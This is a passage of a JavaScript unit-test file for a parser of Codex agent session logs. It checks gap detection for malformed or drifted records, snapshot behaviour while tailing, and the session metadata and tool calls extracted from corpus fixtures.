    const claude = JSON.stringify({ type: 'user', sessionId: 's', message: { role: 'user', content: 'hi' }, uuid: 'u', timestamp: '2025-01-01T00:00:00Z' });
    const gemini = JSON.stringify({ type: 'event_msg', message: 'x' });
    assert.equal(codexFormat.detect(fileHead([claude, claude]), 'a.jsonl'), false);
    assert.equal(codexFormat.detect(fileHead([gemini]), 'a.jsonl'), false);
    assert.equal(codexFormat.detect(fileHead([JSON.stringify({ id: 'x', timestamp: 'y' }), JSON.stringify({ type: 'other' })]), 'a.jsonl'), false);
    assert.equal(codexFormat.detect(fileHead([]), 'a.jsonl'), false);
  });
});

describe('codex: gaps', () => {
  it('malformed lines, unknown record and payload types, drifted fields, naive timestamps', () => {
    const s = parse([
      meta(),
      '{"timestamp": "2026-01-02T03:05:00Z", "type": "response_item", "payl',
      '[1, 2, 3]',
      rec('mystery', { a: 1 }),
      item({ type: 'hologram', id: 'h1' }),
      item({ type: 'hologram', id: 'h2' }),
      event({ type: 'telepathy' }),
      JSON.stringify({ timestamp: '2026-01-02T03:05:00Z', type: 'event_msg', payload: 'oops' }),
      rec('turn_context', { model: 42 }),
      JSON.stringify({ timestamp: '2026-01-02 03:05:00', type: 'event_msg', payload: { type: 'token_count' } }),
      item({ type: 'function_call', name: 7, arguments: '{}', call_id: 'n1' }),
      fnCall('exec_command', '[REDACTED_ARGUMENTS len=10]', 'r1'),
      fnOut('r1', '[REDACTED_OUTPUT]'),
    ]);
    assert.deepEqual(gapKinds(s), [
      'guessed-timezone:timestamp without zone',
      'malformed-line:not a JSON object',
      'schema-drift:event_msg: payload is not an object',
      'schema-drift:exec_command: arguments are not a JSON object',
      'schema-drift:function_call: name is not a string',
      'schema-drift:turn_context: model is not a string',
      'unknown-record:event_msg/telepathy',
      'unknown-record:mystery',
      'unknown-record:response_item/hologram',
    ]);
    const malformed = s.gaps.find((g) => g.kind === 'malformed-line');
    assert.deepEqual([malformed?.count, malformed?.line, malformed?.source], [2, 2, FILE]);
    assert.equal(s.gaps.find((g) => g.detail === 'response_item/hologram')?.count, 2);
    // A redacted call still counts, with its raw text as summary.
    const redacted = s.toolCalls.find((c) => c.id === 'r1');
    assert.deepEqual([redacted?.kind, redacted?.args, redacted?.status], ['shell', '[REDACTED_ARGUMENTS len=10]', 'succeeded']);
  });

  it('known records that carry nothing to audit are not gaps', () => {
    const s = parse([
      meta(),
      rec('compacted', { message: 'summary', replacement_history: [] }),
      rec('world_state', { full: true, state: { model: 'gpt-5.6' } }),
      rec('inter_agent_communication_metadata', { trigger_turn: false }),
      item({ type: 'ghost_snapshot', ghost_commit: { id: 'g' } }),
      item({ type: 'compaction', encrypted_content: 'x' }),
      item({ type: 'reasoning', summary: [], encrypted_content: 'x' }),
      event({ type: 'token_count', info: null }),
      event({ type: 'entered_review_mode' }),
      event({ type: 'item_completed', item: { type: 'Plan' } }),
      event({ type: 'collab_waiting_end', call_id: 'q' }),
      event({ type: 'guardian_assessment', status: 'approved' }),
      event({ type: 'context_compacted' }),
      '',
    ]);
    assert.deepEqual(s.gaps, []);
    assert.deepEqual(s.models, ['gpt-5.6']);
  });

  it('never throws, whatever the field types', () => {
    const odd = [
      rec('session_meta', { id: 5, cwd: ['x'], git: 'main', source: 7 }),
      rec('turn_context', { sandbox_policy: [1], approval_policy: { granular: {} }, cwd: 3 }),
      item({ type: 'function_call', name: 'shell', arguments: '{"command": "not-a-list", "workdir": 9}', call_id: 1 }),
      item({ type: 'function_call', name: 'shell', arguments: null }),
      item({ type: 'function_call_output', call_id: null, output: { deep: { deeper: [1, 2, { text: 5 }] } } }),
      item({ type: 'local_shell_call', action: 'ls' }),
      item({ type: 'custom_tool_call', name: 'apply_patch', input: 12 }),
      item({ type: 'message', role: 'user', content: { text: 1 } }),
      item({ type: 'web_search_call', action: [] }),
      event({ type: 'exec_command_end', call_id: {}, command: 'ls', exit_code: '0' }),
      event({ type: 'patch_apply_end', call_id: 'zz', changes: ['a'] }),
      event({ type: 'mcp_tool_call_end', call_id: 3, result: 'x' }),
      event({ type: 'turn_aborted' }),
      event({ type: 7 }),
      JSON.stringify({ type: null }),
      JSON.stringify({ timestamp: 12, type: 'response_item', payload: { type: ['message'] } }),
      'null',
      'x'.repeat(100_000),
    ];
    assert.doesNotThrow(() => parse(odd));
    assert.equal(parse(odd).id, SESSION);
  });
});

describe('codex: snapshots while tailing', () => {
  it('are repeatable, do not share objects, and follow new lines', () => {
    const parser = codexFormat.open({ source: FILE });
    parser.line(meta(), 1);
    parser.line(fnCall('exec_command', { cmd: 'ls' }, 'c1'), 2);
    const first = parser.snapshot();
    assert.equal(first[0].toolCalls[0].status, 'pending');
    assert.equal(first[0].gaps[0]?.kind, 'missing-result');
    first[0].toolCalls[0].status = 'failed';
    first[0].gaps.length = 0;
    const second = parser.snapshot();
    assert.deepEqual(second, parser.snapshot());
    assert.equal(second[0].toolCalls[0].status, 'pending');
    assert.equal(second[0].gaps.length, 1);
    parser.line(fnOut('c1', 'Process exited with code 0'), 3);
    const third = parser.snapshot();
    assert.equal(third[0].toolCalls[0].status, 'succeeded');
    assert.deepEqual(third[0].gaps, []);
    assert.equal(third[0].sources[0].lastLine, 3);
  });

  it('an empty log yields no session', () => {
    assert.deepEqual(codexFormat.open({ source: FILE }).snapshot(), []);
  });
});

describe('codex corpus: agentlogs crud (exec mode, 0.89.0)', { skip: corpusSkip }, () => {
  const file = 'codex/agentlogs__crud.jsonl';

  it('is one Codex session with its header facts', () => {
    const { format, sessions } = parseCorpusFile(file);
    assert.equal(format, 'codex');
    assert.equal(sessions.length, 1);
    const s = sessions[0];
    assert.equal(s.id, '019bf4b5-e7b0-75a0-8bf2-05fbf1b13c9b');
    assert.equal(s.cwd, '/Users/philipp/dev/agentlogs/fixtures');
    assert.deepEqual(s.models, ['gpt-5.2-codex']);
    assert.equal(s.meta.cliVersion, '0.89.0');
    assert.equal(s.meta.originator, 'codex_exec');
    assert.equal(s.meta.gitBranch, 'main');
    assert.equal(s.meta.approvalPolicy, 'never');
    assert.equal(s.meta.sandbox, 'danger-full-access');
    assert.match(s.title ?? '', /^create a file `JOKE\.md` with a random joke/);
    assert.equal(s.meta.userMessages, 1);
    assert.equal(s.meta.agentMessages, 1);
    assert.deepEqual(s.gaps, []);
  });

  it('creates JOKE.md with a heredoc, reads it, patches it, removes it: all exit 0', () => {
    const s = parseCorpusFile(file).sessions[0];
    assert.deepEqual(toolCounts(s), { exec_command: 3, apply_patch: 1 });
    assert.deepEqual(
      s.toolCalls.map((c) => [c.tool, c.status, c.exitCode]),
      [
        ['exec_command', 'succeeded', 0],
        ['exec_command', 'succeeded', 0],
        ['apply_patch', 'succeeded', 0],
        ['exec_command', 'succeeded', 0],
      ],
    );
    const [create, read, , remove] = s.toolCalls;
    assert.ok(create.command?.startsWith("cat <<'EOF' > /Users/philipp/dev/agentlogs/fixtures/JOKE.md\n# The Late Comedian"));
    assert.equal(read.command, 'cat /Users/philipp/dev/agentlogs/fixtures/JOKE.md');
    assert.equal(remove.command, 'rm /Users/philipp/dev/agentlogs/fixtures/JOKE.md');
    assert.equal(create.why, 'Planning file operations and command sequence');
    assert.deepEqual(s.touches, [
      { path: '/Users/philipp/dev/agentlogs/fixtures/JOKE.md', access: 'write', evidence: 'parsed', toolCallId: 'call_jNxPfZXnxjqCPQxUeOy07aR1' },
    ]);
  });
});

describe('codex corpus: localpush Codex Desktop session (sanitized)', { skip: corpusSkip }, () => {
  const file = 'codex/localpush__rollout-2026-02-23T12-40-23-019c8a4c-ed82-79a1-aa28-7738fc5ab61a.jsonl';

  it('counts every call by tool, each with its output', () => {
    const s = parseCorpusFile(file).sessions[0];
    assert.deepEqual(toolCounts(s), { exec_command: 71, write_stdin: 9, apply_patch: 22, update_plan: 2, web_search: 1 });
    assert.deepEqual(new Set(s.toolCalls.map((c) => c.status)), new Set(['succeeded']));
    const web = s.toolCalls.filter((c) => c.kind === 'web');
    assert.equal(web.length, 1);
    assert.deepEqual(web[0].capabilities, ['net-egress']);
    assert.equal(s.toolCalls.filter((c) => c.kind === 'edit').length, 22);
    assert.equal(s.toolCalls.filter((c) => c.kind === 'plan').length, 2);
  });

  it('states the sandbox: workspace-write, no network, approval on request', () => {
    const s = parseCorpusFile(file).sessions[0];
    assert.equal(s.id, '019c8a4c-ed82-79a1-aa28-7738fc5ab61a');
    assert.equal(s.cwd, '/redacted/path/fa3f7eaace');
    assert.deepEqual(s.models, ['gpt-5.3-codex']);
    assert.equal(s.meta.cliVersion, '0.104.0-alpha.1');
    assert.equal(s.meta.originator, 'Codex Desktop');
    assert.equal(s.meta.sandbox, 'workspace-write');
    assert.equal(s.meta.sandboxNetworkAccess, false);
    assert.equal(s.meta.sandboxWritableRoots, '/redacted/path/fa3f7eaace');
    assert.equal(s.meta.approvalPolicy, 'on-request');
  });

  it('five user turns, each closed by task_complete; redacted arguments are reported, not guessed', () => {
    const s = parseCorpusFile(file).sessions[0];
    assert.equal(s.meta.userMessages, 5);
    assert.equal(s.meta.agentMessages, 43);
    assert.deepEqual(s.end, { completed: true });
    assert.deepEqual(s.touches, []);
    const drift = Object.fromEntries(s.gaps.map((g) => [`${g.kind}:${g.detail}`, g.count]));
    assert.deepEqual(drift, {
      'schema-drift:exec_command: arguments are not a JSON object': 71,
      'schema-drift:write_stdin: arguments are not a JSON object': 9,
      'schema-drift:update_plan: arguments are not a JSON object': 2,
      'schema-drift:apply_patch: patch text not readable': 22,
    });
  });
});

describe('codex corpus: localpush MCP-only session', { skip: corpusSkip }, () => {
  const file = 'codex/localpush__rollout-2026-02-23T20-34-25-019c8bfe-ec25-79e0-97d7-bda6a9c575ff.jsonl';

  it('four MCP calls to cloud-associates and one redacted tool name left unmapped', () => {
    const s = parseCorpusFile(file).sessions[0];
    assert.deepEqual(toolCounts(s), {
      'mcp__cloud-associates__search_workflows': 1,
      '[REDACTED_NAME len=43 sha=c186413b]': 1,
      'mcp__cloud-associates__execute_workflow': 3,
    });
    const mcp = s.toolCalls.filter((c) => c.kind === 'mcp');
    assert.equal(mcp.length, 4);
    assert.deepEqual(new Set(mcp.map((c) => c.mcpServer)), new Set(['cloud-associates']));
    const redacted = s.toolCalls.filter((c) => c.unmapped);
    assert.equal(redacted.length, 1);
    assert.equal(redacted[0].tool, '[REDACTED_NAME len=43 sha=c186413b]');
    assert.deepEqual(
      s.gaps.filter((g) => g.kind === 'unknown-tool').map((g) => [g.detail, g.count]),
      [['[REDACTED_NAME len=43 sha=c186413b]', 1]],
    );
    assert.equal(s.toolCalls.every((c) => c.status === 'succeeded'), true);
    assert.equal(s.meta.userMessages, 1);
    assert.deepEqual(s.end, { completed: true });
  });
});

describe('codex corpus: agent-sessions shape catalog (cli 0.146.0)', { skip: corpusSkip }, () => {
  const file = 'codex/agent-sessions__codex_small_shape_catalog.jsonl';

  it('recognises every record type: no malformed or unknown-record gaps', () => {
    const { format, sessions } = parseCorpusFile(file);
    assert.equal(format, 'codex');
    const s = sessions[0];
    assert.deepEqual(s.gaps.filter((g) => g.kind === 'unknown-record' || g.kind === 'malformed-line'), []);
    assert.equal(s.sources[0].lastLine, fs.readFileSync(corpusPath(file), 'utf8').trimEnd().split('\n').length);
  });

  it('takes identity from the first header and reads the calls of the catalog', () => {
    const s = parseCorpusFile(file).sessions[0];
    assert.equal(s.id, '019fc8be-3658-7ca3-9e29-000000000000');
    assert.equal(s.cwd, '/tmp/repo');
    assert.equal(s.meta.cliVersion, '0.146.0');
    assert.equal(s.parentId, undefined);
    assert.ok(s.models.includes('gpt-5.6-luna') && s.models.includes('gpt-5.6-sol'));
    assert.deepEqual(toolCounts(s), { shell: 2, tool_search: 2, web_search: 1, image_generation: 1, '[trimmed for fixture]': 2 });
    const byId = new Map(s.toolCalls.map((c) => [c.id, c]));
    assert.equal(byId.get('call-1')?.command, 'ls'); // custom_tool_call named shell with JSON input
    assert.equal(byId.get('call-2')?.status, 'succeeded');
    assert.equal(byId.get('ws-1')?.query, 'example');
    // patch_apply_end without its call still shows the file it changed
    assert.ok(s.touches.some((t) => t.path === '/tmp/repo/a.txt' && t.access === 'write' && t.evidence === 'observed'));
  });
});

describe('codex corpus: agent-sessions schema drift', { skip: corpusSkip }, () => {
  it('reads drifted lines as gaps without crashing', () => {
    const text = fs.readFileSync(corpusPath('codex/agent-sessions__codex_schema_drift.jsonl'), 'utf8');
    const [s] = parseLines(codexFormat, text, 'schema_drift.jsonl');
    assert.deepEqual(gapKinds(s), [
      'missing-result:translate',
      'schema-drift:function_call: name is not a string',
      'unknown-record:function_result',
      'unknown-record:record without type',
      'unknown-tool:translate',
    ]);
    assert.equal(s.gaps.find((g) => g.detail === 'record without type')?.count, 2);
    assert.equal(s.startedAt, '2025-09-10T12:00:03.000Z');
  });
});
